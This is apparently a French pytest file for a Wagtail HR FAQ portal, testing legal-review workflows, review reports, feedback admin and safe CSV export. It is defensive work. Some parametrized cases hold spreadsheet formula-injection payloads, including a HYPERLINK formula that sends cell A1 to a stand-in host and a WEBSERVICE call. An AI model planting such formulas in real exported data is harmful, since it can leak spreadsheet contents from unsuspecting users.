"""Relecture juridique : workflow Wagtail, rapport des articles à relire, avis dans l'admin."""

import csv
import io
from datetime import date

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from wagtail.models import Workflow

from rh_tpe import droit
from rh_tpe.faq.models import FaqArticlePage, FaqIndexPage
from rh_tpe.faq.selectors import articles_a_relire
from tests.factories import (
    AdministrateurFactory,
    ChefEntrepriseFactory,
    ConseillerFactory,
    EditeurFactory,
)
from tests.faq.conftest import creer_article

JETON_DPAE = "[[regle:embauche.dpae.jours_avant_embauche_au_plus_tot]]"


@pytest.fixture
def editeur(db):
    utilisateur = EditeurFactory()
    utilisateur.groups.add(Group.objects.get(name="Editors"))
    return utilisateur


@pytest.fixture
def relecteur(db):
    from rh_tpe.comptes.models import Organisation

    utilisateur = ConseillerFactory(organisation=Organisation.objects.get(code="dreets"))
    utilisateur.groups.add(Group.objects.get(name="Relecteurs juridiques"))
    return utilisateur


def test_le_workflow_relecture_juridique_couvre_les_articles(theme):
    article = creer_article(theme, titre="Question")

    workflow = article.get_workflow()
    assert workflow == Workflow.objects.get(name="Relecture juridique")
    assert FaqIndexPage.objects.get().get_workflow() == workflow
    groupes = workflow.tasks.get().specific.groups.all()
    assert [g.name for g in groupes] == ["Relecteurs juridiques"]


def test_une_modification_passe_par_la_relecture_puis_est_publiee(theme, editeur, relecteur):
    article = creer_article(theme, titre="Faut-il une DPAE ?")
    article.en_bref = "Nouvelle réponse courte."
    revision = article.save_revision(user=editeur)

    etat = article.get_workflow().start(article, editeur)
    article.refresh_from_db()
    assert FaqArticlePage.objects.get(pk=article.pk).en_bref == "Une réponse courte."
    tache = etat.current_task_state
    assert tache.task.specific.user_can_access_editor(article, relecteur)
    assert not tache.task.specific.user_can_access_editor(article, ChefEntrepriseFactory())

    tache.task.specific.on_action(tache, relecteur, "approve", comment="Conforme.")

    article.refresh_from_db()
    assert article.live and article.en_bref == "Nouvelle réponse courte."
    assert article.live_revision_id == revision.pk


def test_le_relecteur_peut_renvoyer_l_article_avec_un_commentaire(theme, editeur, relecteur):
    article = creer_article(theme, titre="Faut-il une DPAE ?")
    article.en_bref = "Réponse fausse."
    article.save_revision(user=editeur)
    etat = article.get_workflow().start(article, editeur)
    tache = etat.current_task_state

    tache.task.specific.on_action(tache, relecteur, "reject", comment="Citez L1221-10.")

    etat.refresh_from_db()
    tache.refresh_from_db()
    assert etat.status == "needs_changes"
    assert tache.comment == "Citez L1221-10."
    assert FaqArticlePage.objects.get(pk=article.pk).en_bref == "Une réponse courte."


def test_le_relecteur_et_l_editeur_accedent_a_l_admin_pas_le_chef(client, editeur, relecteur):
    for utilisateur, attendu in ((editeur, 200), (relecteur, 200)):
        client.force_login(utilisateur)
        assert client.get("/admin/").status_code == attendu
        assert client.get("/admin/faq/a-relire/").status_code == attendu
    client.force_login(ChefEntrepriseFactory())
    assert client.get("/admin/faq/a-relire/").status_code == 302


def test_le_rapport_liste_les_relectures_anciennes_et_les_baremes_changes(client, theme, editeur):
    ancien = creer_article(theme, titre="Relu il y a longtemps", relu_le=date(2025, 10, 1))
    smic = creer_article(theme, titre="Cite le SMIC", relu_le=date(2026, 5, 15))
    a_jour = creer_article(theme, titre="Relu récemment", relu_le=date(2026, 11, 20))
    sans_bareme = creer_article(
        theme,
        titre="Sans barème",
        relu_le=date(2026, 5, 15),
        corps=[{"type": "paragraphe", "value": "<p>[[regle:cdd.duree_maximale.general]]</p>"}],
    )
    assert droit.smic_horaire(date(2026, 5, 15)) != droit.smic_horaire(date(2026, 11, 26))

    lignes = {ligne.article.pk: ligne for ligne in articles_a_relire(date(2026, 11, 26))}

    assert lignes[ancien.pk].relecture_perimee
    assert lignes[smic.pk].baremes_changes == ["SMIC horaire brut"]
    assert not lignes[smic.pk].relecture_perimee
    assert a_jour.pk not in lignes and sans_bareme.pk not in lignes

    client.force_login(editeur)
    page = client.get("/admin/faq/a-relire/").content.decode()
    assert ancien.title in page and smic.title in page and a_jour.title not in page


def test_les_avis_sont_visibles_des_editeurs_par_article(client, theme, editeur):
    article = creer_article(theme, titre="Faut-il une DPAE ?")
    client.post(article.url, {"utile": "non", "commentaire": "Pas clair sur le délai."})

    client.force_login(editeur)
    reponse = client.get("/admin/avis_faq/", {"page": article.pk})

    assert reponse.status_code == 200
    assert "Pas clair sur le délai." in reponse.content.decode()
    client.force_login(ChefEntrepriseFactory())
    assert client.get("/admin/avis_faq/").status_code == 302


@pytest.mark.parametrize(
    ("formule", "attendu"),
    [
        (
            '=HYPERLINK("http://x.invalid/?"&A1;"ici")',
            '\'=HYPERLINK("http://x.invalid/?"&A1;"ici")',
        ),
        ("+1+1", "'+1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        # Un Excel français coupe la ligne sur « ; » : la formule serait une cellule de plus.
        ('merci;=WEBSERVICE("http://x.invalid")', 'merci;\'=WEBSERVICE("http://x.invalid")'),
        ("bien, -1 pour le délai", "bien, '-1 pour le délai"),
    ],
)
def test_l_export_csv_des_avis_ne_transporte_pas_de_formule(
    client, theme, editeur, formule, attendu
):
    article = creer_article(theme, titre="Faut-il une DPAE ?")
    client.post(article.url, {"utile": "non", "commentaire": formule})
    Client().post(article.url, {"utile": "oui", "commentaire": "Clair, merci."})  # autre lecteur

    client.force_login(editeur)
    reponse = client.get("/admin/avis_faq/", {"export": "csv"})

    assert reponse.status_code == 200
    contenu = b"".join(reponse.streaming_content).decode()
    lignes = list(csv.DictReader(io.StringIO(contenu)))
    commentaires = {ligne["Commentaire"] for ligne in lignes}
    assert commentaires == {attendu, "Clair, merci."}
    # Chaque valeur entre guillemets : un séparateur dans un commentaire n'ouvre pas de cellule.
    assert all(ligne.startswith('"') for ligne in contenu.splitlines() if ligne)


@pytest.mark.parametrize(
    "rapport", ["site_history", "aging_pages", "locked_pages", "workflow", "workflow_tasks"]
)
def test_l_export_csv_des_rapports_ne_transporte_pas_de_formule_dans_un_titre(
    client, theme, editeur, rapport
):
    # Un titre de page peut venir de la proposition d'un conseiller.
    article = creer_article(theme, titre="=SOMME(1;2) ; -1 jour")
    article.get_workflow().start(article, editeur)
    FaqArticlePage.objects.filter(pk=article.pk).update(
        locked=True, locked_by=editeur, locked_at=timezone.now()
    )

    client.force_login(AdministrateurFactory())
    # La liste filtrée (« résultats ») s'exporte aussi.
    for nom in (rapport, f"{rapport}_results"):
        reponse = client.get(reverse(f"wagtailadmin_reports:{nom}"), {"export": "csv"})

        assert reponse.status_code == 200
        contenu = b"".join(reponse.streaming_content).decode()
        cellules = [cellule for ligne in csv.reader(io.StringIO(contenu)) for cellule in ligne]
        assert "'=SOMME(1;2) ; '-1 jour" in cellules
        assert not [c for c in cellules if c.lstrip().startswith(("=", "+", "-", "@"))]
        assert all(ligne.startswith('"') for ligne in contenu.splitlines() if ligne)
    # Le rapport lui-même est toujours celui de Wagtail, et toujours réservé à l'administration.
    assert client.get(reverse(f"wagtailadmin_reports:{rapport}")).status_code == 200
    client.force_login(ChefEntrepriseFactory())
    assert (
        client.get(reverse(f"wagtailadmin_reports:{rapport}"), {"export": "csv"}).status_code == 302
    )


def test_l_editeur_previsualise_un_article_avant_publication(client, theme, editeur):
    article = creer_article(theme, titre="Question en préparation", publier=False)

    client.force_login(editeur)
    reponse = client.get(f"/admin/pages/{article.pk}/view_draft/")

    assert reponse.status_code == 200
    assert "Question en préparation" in reponse.content.decode()


def test_parcours_admin_l_editeur_soumet_le_relecteur_approuve(client, theme, editeur, relecteur):
    """Le « Done when » dans l'admin Wagtail : modifier, soumettre, approuver, publié."""
    from wagtail.models import WorkflowState
    from wagtail.test.utils.form_data import nested_form_data, rich_text, streamfield

    article = creer_article(theme, titre="Faut-il une DPAE ?", slug="dpae-essai")
    client.force_login(editeur)
    donnees = nested_form_data(
        {
            "title": "Faut-il une DPAE avant l'embauche ?",
            "slug": "dpae-essai",
            "en_bref": "Oui, avant la première heure de travail.",
            "corps": streamfield(
                [
                    (
                        "paragraphe",
                        rich_text(f"<p>Au plus tôt {JETON_DPAE} avant.</p>"),
                    ),
                    ("a_retenir", "Gardez l'accusé de réception."),
                ]
            ),
            "relu_le": "2026-11-26",
            "relu_par": "Élise Roux",
            "etiquettes": "DPAE, embauche",
        }
    )
    reponse = client.post(
        f"/admin/pages/{article.pk}/edit/", {**donnees, "action-submit": "Soumettre"}
    )
    assert reponse.status_code == 302, reponse.context["form"].errors if reponse.context else ""
    etat = WorkflowState.objects.get(object_id=str(article.pk), status="in_progress")
    assert FaqArticlePage.objects.get(pk=article.pk).title == "Faut-il une DPAE ?"
    # L'éditeur ne peut pas approuver lui-même.
    url = f"/admin/pages/workflow/action/{article.pk}/approve/{etat.current_task_state.pk}/"
    client.post(url, {"comment": "Je valide moi-même."})
    assert FaqArticlePage.objects.get(pk=article.pk).title == "Faut-il une DPAE ?"

    client.force_login(relecteur)
    reponse = client.post(url, {"comment": "Conforme à L1221-10."})

    assert reponse.status_code in (200, 302)
    publie = FaqArticlePage.objects.get(pk=article.pk)
    assert publie.title == "Faut-il une DPAE avant l'embauche ?"
    assert sorted(e.name for e in publie.etiquettes.all()) == ["DPAE", "embauche"]
    # Le jeton est enregistré tel quel : la valeur est lue dans rh_tpe.droit à l'affichage.
    assert JETON_DPAE in str(publie.corps.raw_data[0]["value"])
    assert client.get(publie.url).status_code == 200


def test_une_publication_programmee_part_a_l_heure_dite(theme):
    from datetime import timedelta

    from django.core.management import call_command
    from django.utils import timezone

    article = creer_article(theme, titre="SMIC au 1er janvier")
    article.en_bref = "Nouvelle valeur au 1er janvier."
    revision = article.save_revision(approved_go_live_at=timezone.now() + timedelta(days=1))
    call_command("publish_scheduled")
    assert FaqArticlePage.objects.get(pk=article.pk).en_bref == "Une réponse courte."

    revision.approved_go_live_at = timezone.now() - timedelta(minutes=1)
    revision.save(update_fields=["approved_go_live_at"])
    call_command("publish_scheduled")

    assert FaqArticlePage.objects.get(pk=article.pk).en_bref == "Nouvelle valeur au 1er janvier."


def test_l_administration_n_envoie_pas_l_adresse_des_editeurs_a_gravatar(client, editeur):
    """Wagtail affiche par défaut l'avatar Gravatar de chaque compte : le navigateur envoie
    alors l'empreinte de l'adresse e-mail de l'éditeur ou du conseiller à un service
    américain, hors de la politique de données du portail (et en erreur dans la console
    quand le réseau est fermé). L'avatar par défaut de Wagtail suffit."""
    client.force_login(editeur)

    for url in ("/admin/", "/admin/account/"):
        assert "gravatar.com" not in client.get(url).content.decode(), url


def test_le_compte_de_l_administration_ne_propose_que_des_fuseaux_valides(client, editeur):
    """Wagtail proposait tous les fuseaux connus du système, dont « localtime » (un lien du
    paquet tzdata de Debian) que les navigateurs refusent : la page « Compte » levait une
    erreur JavaScript. Le portail sert le Lot : l'heure de Paris, seule
    proposée (Wagtail masque alors le choix)."""
    client.force_login(editeur)

    page = client.get("/admin/account/").content.decode()

    assert 'value="localtime"' not in page
